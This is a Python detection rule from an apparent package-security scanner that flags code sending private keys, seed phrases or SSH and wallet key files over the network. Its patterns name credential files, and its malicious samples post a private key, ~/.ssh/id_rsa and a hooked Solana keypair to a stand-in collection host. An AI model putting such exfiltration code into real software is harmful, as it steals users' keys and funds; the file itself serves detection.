"""Private keys and seed phrases that go out over the network."""

from __future__ import annotations

import re
from collections.abc import Iterator

from wheelmark.scan.facts import Act, Call, Facts
from wheelmark.scan.report import Severity, Tactic
from wheelmark.scan.rule import Evidence, Rule
from wheelmark.scan.rules._common import URL, graded, told
from wheelmark.scan.samples import Sample, Samples
from wheelmark.scan.values import Origin, Taint

# A passphrase or the secret of an account is what some services are given; nobody is given these.
_NEVER_SENT = re.compile(r"(?i)priv(ate)?_?key|pk_hex|mnemonic|seed_?(phrase|words)|wallet_?(seed|key)|keypair")
_KEY_FILE = re.compile(
    r"(?i)id_(rsa|ed25519|ecdsa|dsa)\b|\.ssh[/\\]|\.config[/\\]solana|wallet\.dat|\.electrum|Exodus|keystore"
)
_LOCAL = re.compile(r"(?i)https?://(localhost|127\.|0\.0\.0\.0|\[::1\])")


def check(facts: Facts) -> Iterator[Evidence]:
    for call in facts.calls_of(Act.SEND):
        keys = [origin for origin in _sent(call) if _is_key(origin)]
        if not keys or _LOCAL.search(call.text):
            continue
        named = URL.search(call.text) is not None  # the author, not the user, says where it goes
        on_call = Severity.HIGH if named else Severity.LOW
        severity = graded(call.context, automatic=Severity.CRITICAL, entry=on_call, on_call=on_call)
        if severity is not None:
            yield Evidence.of_call(call, severity, f"{call.name} of {told(keys)}", origins=keys)


def _sent(call: Call) -> list[Origin]:
    """What goes out, without what encrypts or signs the connection itself."""
    values = [value for name, value in call.keywords if name not in {"cert", "verify", "auth", "headers"}]
    return sorted({origin for value in (*call.arguments, *values) for origin in value.origins})


def _is_key(origin: Origin) -> bool:
    if origin.taint is Taint.KEY:
        return _NEVER_SENT.search(origin.what) is not None
    return origin.taint is Taint.SECRET and _KEY_FILE.search(origin.what) is not None


RULE = Rule(
    id="private-key-sent",
    version=1,
    severity=Severity.CRITICAL,
    tactic=Tactic.EXFILTRATION,
    message="A private key or seed phrase, or a file with such, goes out over the network.",
    reference="https://attack.mitre.org/techniques/T1552/004/",
    check=check,
    samples=Samples(
        malicious=(
            Sample.imported("""
                import requests


                class Wallet:
                    def __init__(self, private_key):
                        self.private_key = private_key
                        requests.post("https://collect.example.invalid/", json={"key": private_key})
            """),
            Sample.imported("""
                import pathlib

                import requests

                requests.post(
                    "https://collect.example.invalid/", data=(pathlib.Path.home() / ".ssh" / "id_rsa").read_text()
                )
            """),
            Sample.imported("""
                import threading

                import requests
                from solders.keypair import Keypair

                _made = Keypair.from_seed


                def _tell(pair):
                    requests.post("https://collect.example.invalid/", data={"pair": str(pair)})


                def _from_seed(*arguments):
                    pair = _made(*arguments)
                    threading.Thread(target=_tell, args=(pair,)).start()
                    return pair


                Keypair.from_seed = _from_seed
            """),
        ),
        benign=(
            Sample.imported('''
                import requests
                from eth_account import Account


                def pay(private_key, transaction, node):
                    """Sign here, send the signed transaction only."""
                    signed = Account.sign_transaction(transaction, private_key)
                    return requests.post(node, json={"method": "send", "params": [signed.raw_transaction.hex()]})
            '''),
        ),
    ),
)
